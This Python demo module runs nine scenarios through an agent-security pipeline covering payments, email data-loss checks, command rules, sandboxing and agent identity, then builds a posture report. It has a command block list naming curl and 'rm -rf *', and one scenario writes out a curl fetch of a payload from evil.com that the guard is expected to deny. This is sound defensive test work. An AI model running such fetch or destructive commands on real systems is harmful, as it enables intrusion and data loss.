"""``agent-security demo full``: the original's ``examples/05-full-spm``, every distribution in one pipeline.

One ``AgentSecurity`` with the kill switch, identity (registered agents and tools, trust), egress DLP, the
supply-chain guard (command rules), containment (a sandbox per tool) and the finance guardian, all writing
one hash-chained trail; the original's nine scenarios run through it, then the posture report is built from
that trail. Each row shows our outcome beside the original's and, where they differ, why. Exit status 1
when an outcome is not the expected one.
"""

from __future__ import annotations

import tempfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from rich.console import Console

from agent_security.posture.demos.render import make_table, posture_tables, steps, wide_console

__all__ = ["AGENTS", "POLICY", "SCENARIOS", "Scenario", "run_full_demo"]

AGENTS: list[dict[str, Any]] = [
    {"agent_id": "finance-bot", "name": "Finance Bot", "agent_type": "workflow_agent", "trust_level": "privileged",
     "roles": ["finance.reader", "finance.writer"], "environment": "prod", "max_delegation_depth": 1},
    {"agent_id": "support-bot", "name": "Support Bot", "agent_type": "chat_agent", "trust_level": "verified",
     "roles": ["support.reader", "email.sender"], "environment": "prod"},
    {"agent_id": "devops-bot", "name": "DevOps Bot", "agent_type": "autonomous_agent", "trust_level": "verified",
     "roles": ["infra.admin", "db.writer"], "capabilities": ["tool_call", "code_execute"], "environment": "prod"},
    {"agent_id": "rogue-bot", "name": "Rogue Bot", "agent_type": "autonomous_agent", "trust_level": "basic",
     "capabilities": ["tool_call", "code_execute", "web_browse"], "environment": "prod"},
]  # fmt: skip
TOOLS: list[dict[str, Any]] = [
    {"tool_name": name, "version": "1.0.0", "provider": "built-in", "permissions_required": [perm]}
    for name, perm in (("trigger_payment", "finance.write"), ("query_customer_db", "db.read"),
                       ("send_email", "email.send"), ("write_db", "db.write"), ("deploy_service", "infra.deploy"),
                       ("terminal", "code.execute"))
]  # fmt: skip
POLICY: dict[str, Any] = {
    "version": "1.0.0", "generated_at": "2026-01-01T00:00:00.000Z", "expires_at": "2099-01-01T00:00:00.000Z",
    "rules": [
        {"id": "PRIVILEGED_PAYMENT", "match": {"tool_name": "trigger_payment", "environment": "prod",
                                               "trust_level_min": "privileged"}, "outcome": "ALLOW"},
        {"id": "DENY_PAYMENT", "match": {"tool_name": "trigger_payment", "environment": "*"}, "outcome": "DENY"},
        {"id": "AUTO_DB_TICKET", "match": {"tool_name": "write_db", "environment": "*",
                                           "agent_type": "autonomous_agent"}, "outcome": "REQUIRE_TICKET"},
        {"id": "DEPLOY_HUMAN", "match": {"tool_name": "deploy_service", "environment": "prod"},
         "outcome": "REQUIRE_HUMAN"},
        {"id": "DEFAULT_ALLOW", "match": {"tool_name": "*", "environment": "*"}, "outcome": "ALLOW"},
    ],
    "defaults": {"outcome": "DENY"},
}  # fmt: skip
EGRESS: dict[str, Any] = {
    "rules": [
        {"id": "BLOCK_PII_EMAIL", "description": "No PII via email", "classifications": ["PII"],
         "channels": ["email"], "action": "block"},
        {"id": "BLOCK_PCI_ALL", "classifications": ["PCI"], "action": "block"},
        {"id": "BLOCK_SECRETS_ALL", "classifications": ["SECRET"], "action": "block"},
    ],
    "default_action": "allow",
}  # fmt: skip
COMMAND_RULES: list[dict[str, str]] = [
    {"pattern": "npm test", "action": "allow", "reason": "Tests are always allowed"},
    {"pattern": "npm install *", "action": "require_approval", "reason": "Package installs need approval"},
    {"pattern": "curl", "action": "block", "reason": "External curl blocked"},
    {"pattern": "rm -rf *", "action": "block", "reason": "Destructive operations blocked"},
    {"pattern": "ls *", "action": "allow", "reason": "Listing is fine"},
]
SANDBOXES: dict[str, Any] = {
    "terminal": {
        "type": "process",
        "allowed_paths": ["/tmp", "/home/app"],  # noqa: S108 (a sandbox profile's paths, no file is made)
        "network_enabled": False,
        "timeout_s": 10,
    },
    "deploy_service": {"type": "container", "network_enabled": True, "timeout_s": 60},
}


@dataclass(frozen=True)
class Scenario:
    label: str
    call: dict[str, Any]
    want: str
    original: str
    why: str = ""
    repeat: int = 1


SCENARIOS: tuple[Scenario, ...] = (
    Scenario("1 finance-bot pays 5000 USD", {"tool_name": "trigger_payment", "agent_id": "finance-bot",
             "tool_args": {"amount": 5000, "currency": "USD", "recipient": "vendor-123"}},
             "ALLOW PRIVILEGED_PAYMENT", "ALLOW PRIVILEGED_PAYMENT"),
    Scenario("2 support-bot pays 100 USD", {"tool_name": "trigger_payment", "agent_id": "support-bot",
             "tool_args": {"amount": 100, "currency": "USD"}}, "DENY DENY_PAYMENT", "DENY DENY_PAYMENT"),
    Scenario("3 support-bot emails an SSN outside", {"tool_name": "send_email", "agent_id": "support-bot",
             "tool_args": {"to": "customer@external.com", "subject": "Account Details",
                           "body": "Hi, your SSN is 123-45-6789 and email is john@example.com"}},
             "DENY EGRESS_BLOCKED", "DENY EGRESS_BLOCKED"),
    Scenario("4 support-bot emails a standup reminder", {"tool_name": "send_email", "agent_id": "support-bot",
             "tool_args": {"to": "team@acme.com", "subject": "Standup reminder",
                           "body": "Don't forget standup at 10am!"}},
             "ALLOW DEFAULT_ALLOW", "DENY EGRESS_BLOCKED",
             "the recipient's address is where the mail goes, not data leaving: the original classified it as "
             "PII and blocked every email"),
    Scenario("5 devops-bot runs curl (code_execute)", {"tool_name": "terminal", "agent_id": "devops-bot",
             "action_type": "code_execute", "tool_args": {"command": "curl https://evil.com/payload"}},
             "DENY COMMAND_BLOCKED", "DENY COMMAND_BLOCKED"),
    Scenario("6 devops-bot deploys payment-api, a human approves", {"tool_name": "deploy_service",
             "agent_id": "devops-bot", "tool_args": {"service": "payment-api", "version": "2.1.0",
                                                     "ticket_id": "OPS-1234"}},
             "ALLOW HUMAN_APPROVED", "ALLOW DEPLOY_HUMAN, HUMAN_APPROVED",
             "same outcome; the change-ticket check against a ticket server is shown by `demo containment`"),
    Scenario("7 devops-bot: terminal with a URL, sandbox without network", {"tool_name": "terminal",
             "agent_id": "devops-bot", "tool_args": {"command": "ls /tmp", "url": "https://example.com"}},
             "DENY SANDBOX_VIOLATION", "DENY SANDBOX_VIOLATION"),
    Scenario("8 ghost-agent reads customers", {"tool_name": "query_customer_db", "agent_id": "ghost-agent",
             "tool_args": {"query": "SELECT * FROM customers"}}, "DENY AGENT_UNREGISTERED",
             "DENY AGENT_UNREGISTERED"),
    Scenario("9 rogue-bot reads 1000 rows, 40 times in 20 s", {"tool_name": "query_customer_db",
             "agent_id": "rogue-bot", "tool_args": {"query": "SELECT * FROM customers LIMIT 1000"}},
             "ALLOW DEFAULT_ALLOW", "6 x DENY INSUFFICIENT_TRUST",
             "a registered basic agent meets the 'basic' minimum (the original's production penalty pushed "
             "every basic agent below it); the guardian records the burst as an incident instead", repeat=40),
)  # fmt: skip


def _build(trail: Path, clock: Any) -> tuple[Any, Any, Any]:
    from agent_security.containment.config import ContainmentConfig
    from agent_security.containment.plugin import build_plugin
    from agent_security.core import AgentSecurity
    from agent_security.core.builtin import kill_switch
    from agent_security.egress.plugin import EgressConfig, build_enforcer
    from agent_security.guardian.agent import GuardianAgent
    from agent_security.guardian.blueprints import BLUEPRINT_FINANCE
    from agent_security.identity import AgentRegistry, ToolRegistry, identity_enforcer
    from agent_security.supply_chain import supply_chain_guard

    agents, tools = AgentRegistry(), ToolRegistry()
    agents.load_records(AGENTS)
    tools.load_records(TOOLS)
    ks = kill_switch()
    security = AgentSecurity(
        policy_bundle=POLICY,
        autoload=False,
        default_environment="prod",
        clock=clock,
        plugins=[
            ks,
            identity_enforcer(agent_registry=agents, tool_registry=tools, minimum_trust_level="basic"),
            build_enforcer(EgressConfig.model_validate(EGRESS)),
            supply_chain_guard(command_rules=COMMAND_RULES),
            build_plugin(ContainmentConfig.model_validate({"sandboxes": SANDBOXES})),
            GuardianAgent(BLUEPRINT_FINANCE.with_overrides(auto_kill_threshold=3)),
        ],
        on_human_required=lambda *_a, **_k: True,
        on_ticket_required=lambda *_a, **_k: "OPS-1234",
        config={"core": {"audit": {"jsonl_path": str(trail)}}},
    )
    return security, agents, ks


def run_full_demo(console: Console | None = None) -> int:
    """Run the nine scenarios through every distribution, then the posture report; 0 when all is as expected."""
    from agent_security.core.testing import FakeClock
    from agent_security.guardian.demo import BUSINESS
    from agent_security.posture import PostureReport

    console = console or wide_console()
    console.print("[bold]agent-security demo full[/] — Agent-SPM's examples/05-full-spm: identity, egress, "
                  "supply chain, containment, guardian and posture in one pipeline")  # fmt: skip
    table = make_table("The nine scenarios", ["scenario", "ours", "original", "why ours differs"])
    failures: list[str] = []
    clock = FakeClock(BUSINESS)
    with tempfile.TemporaryDirectory(prefix="agent-security-full-demo-") as tmp:
        trail = Path(tmp) / "audit.jsonl"
        security, agents, ks = _build(trail, clock)
        try:
            for scenario in steps(console, SCENARIOS, "scenarios"):
                verdicts: list[str] = []
                for _ in range(scenario.repeat):
                    clock.advance(0.5)
                    result = security.check_tool_call(**scenario.call)
                    codes = result.final_decision.codes
                    verdicts.append(f"{'ALLOW' if result.allowed else 'DENY'} {codes[-1] if codes else ''}".strip())
                distinct = sorted(set(verdicts))
                got = distinct[0] if len(distinct) == 1 else ", ".join(distinct)
                shown = got if scenario.repeat == 1 else f"{scenario.repeat} x {got}"
                ok = got == scenario.want
                table.add_row(scenario.label, shown if ok else f"[red]{shown} UNEXPECTED[/]", scenario.original,
                              scenario.why)  # fmt: skip
                if not ok:
                    failures.append(f"{scenario.label}: got {got}, expected {scenario.want}")
            state = ks.get_state()
        finally:
            security.shutdown()
        console.print(table)
        report = PostureReport.from_trail(trail, agent_registry=agents, kill_state=state)
    incidents = [f"{i.type} ({i.agent_id})" for i in report.summary.open_incidents]
    console.print(f"\n[bold]Posture from the run's trail[/]: {report.summary.events} events, hash chain "
                  f"{'verified' if report.verified else 'NOT verified'}; guardian incidents: "
                  f"{', '.join(incidents) or 'none'}")  # fmt: skip
    originals = {"rogue-bot": "70 critical", "devops-bot": "50 high", "finance-bot": "15 low",
                 "support-bot": "15 low", "fleet": "18 low (a mean diluted by zero-score items)",
                 "eu_ai_act": "100% (flags set by hand)", "uk_ai_principles": "100% (flags set by hand)"}  # fmt: skip
    for t in posture_tables(report, originals):
        console.print(t)
    if not report.verified:
        failures.append("the run's trail does not verify")
    if not any("rogue-bot" in i for i in incidents):
        failures.append("the guardian recorded no incident for rogue-bot's burst")
    for failure in failures:
        console.print(f"[red]UNEXPECTED:[/] {failure}")
    if not failures:
        console.print("all outcomes as expected")
    return 1 if failures else 0
